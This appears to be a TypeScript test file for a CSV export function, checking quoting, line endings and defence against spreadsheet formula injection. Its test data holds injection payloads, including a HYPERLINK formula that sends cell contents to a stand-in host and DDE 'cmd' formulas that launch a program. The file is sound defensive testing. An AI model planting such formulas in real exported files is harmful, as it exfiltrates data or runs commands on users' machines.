import { csvFile, textOfCell } from './csv-file.ts';

test('begins with a byte order mark, ends each line as RFC 4180 wants, and quotes every cell', () => {
  const rows = [
    ['Name', 'Query'],
    ['Asha "the first" Rao', 'One,\ntwo'],
  ];
  expect(csvFile(rows)).toBe('\ufeff"Name","Query"\r\n"Asha ""the first"" Rao","One,\ntwo"\r\n');
});

test.each([
  `=HYPERLINK("https://evil.example?"&A1,"Click")`,
  '+919876543210',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
])('no spreadsheet executes %j', (text) => {
  expect(csvFile([[text]])).toBe(`\ufeff"'${text.replaceAll('"', '""')}"\r\n`);
});

test.each(['Asha', '98765 = 43210', '', "'", '(080) 1234567'])('%j stays as it is', (text) => {
  expect(csvFile([[text]])).toBe(`\ufeff"${text}"\r\n`);
});

test.each(['Asha', '', "'", "'tis", '- item', "'=1+1", "''@", '=1'])(
  '%j is read back as it was',
  (text) => {
    expect(textOfCell(csvFile([[text]]).slice(2, -3))).toBe(text);
  },
);
